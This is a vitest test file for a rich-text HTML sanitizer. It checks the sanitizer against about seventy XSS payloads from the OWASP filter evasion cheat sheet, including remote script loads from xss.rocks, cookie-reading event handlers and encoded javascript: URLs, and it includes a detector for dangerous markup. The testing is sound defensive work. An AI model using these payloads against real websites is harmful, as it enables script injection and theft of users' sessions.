import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './sanitize';

/** Payloads from the OWASP XSS filter evasion cheat sheet (and a few of its relatives). */
const PAYLOADS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example.com/embed"></iframe>',
  '<iframe src="//www.youtube.com.evil.example/embed/x"></iframe>',
  '<base href="javascript:alert(1)//">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/** An attribute value as a browser reads a URL in it: entities decoded, tabs and newlines dropped, leading controls and spaces trimmed. */
const urlOf = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    .replace(/[\t\n\r]/g, '')
    .replace(/^[\x00-\x20]+/, '');

/** What must never survive: a script element, an event handler attribute, a script/data URL, a style, an iframe of another host. */
function dangers(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('<script');
  for (const tag of html.match(/<[a-z][^>]*>?/gi) ?? []) {
    // an "on...=" inside a quoted value is text, not an attribute
    if (/[\s/"']on[a-z]+\s*=/i.test(tag.replace(/"[^"]*"|'[^']*'/g, '""'))) found.push(`on*= attribute in ${tag}`);
    for (const [, , , a, b, c] of tag.matchAll(/\s([a-z-]+)\s*=\s*("([^"]*)"|'([^']*)'|([^\s>]+))/gi)) {
      if (/^(javascript|vbscript|data):/i.test(urlOf(a ?? b ?? c ?? ''))) found.push(`script or data URL in ${tag}`);
    }
    if (/\sstyle\s*=/i.test(tag)) found.push('style attribute');
  }
  if (/<(style|object|embed|base|meta|link|form|button|input|frame|frameset|svg|math|body|template|bgsound)\b/i.test(html))
    found.push('forbidden element');
  for (const [, , quoted, bare] of html.matchAll(/<iframe[^>]*\ssrc=("([^"]*)"|([^\s>"]+))/gi)) {
    const src = quoted ?? bare ?? '';
    if (!/^https:\/\/(www\.youtube-nocookie\.com|www\.youtube\.com|player\.vimeo\.com)\//.test(src)) found.push(`iframe ${src}`);
  }
  return found;
}

describe('sanitizeRichText against the OWASP filter evasion cheat sheet', () => {
  it(`removes every attack of ${PAYLOADS.length} payloads`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    for (const payload of PAYLOADS) expect(dangers(sanitizeRichText(payload)), payload).toEqual([]);
  });

  it('the checker itself sees the attacks in the raw payloads', () => {
    const seen = PAYLOADS.filter((payload) => dangers(payload).length > 0);
    // all but the old-IE-only backtick and &{...} tricks, which no current browser runs
    expect(seen.length).toBeGreaterThanOrEqual(PAYLOADS.length - 3);
  });

  it('is stable: sanitising twice gives the same HTML (stored, then sanitised again on read)', () => {
    for (const payload of PAYLOADS) expect(sanitizeRichText(sanitizeRichText(payload))).toBe(sanitizeRichText(payload));
  });

  it('keeps benign rich text: headings, lists, emphasis, tables, https images, safe links and video embeds', () => {
    const kept = [
      '<h2>Ưu đãi mùa hè</h2>',
      '<p>Giá <strong>chỉ 990.000 ₫</strong> <em>mỗi đêm</em></p>',
      '<ul><li>Bữa sáng</li><li>Hồ bơi</li></ul>',
      '<table><thead><tr><th scope="col">Hạng</th></tr></thead><tbody><tr><td colspan="2">Deluxe</td></tr></tbody></table>',
      '<a href="https://example.com/dieu-kien">Điều kiện</a>',
      '<a href="mailto:hotro@example.com">Hỗ trợ</a>',
    ];
    for (const html of kept) expect(sanitizeRichText(html)).toBe(html);
    expect(sanitizeRichText('<img src="https://example.com/a.jpg" alt="Biển">')).toBe(
      '<img src="https://example.com/a.jpg" alt="Biển" loading="lazy" />',
    );
    expect(sanitizeRichText('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    const video = '<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315"></iframe>';
    expect(sanitizeRichText(video)).toBe(video);
    expect(sanitizeRichText('a < b & c > d')).toBe('a &lt; b &amp; c &gt; d');
  });
});
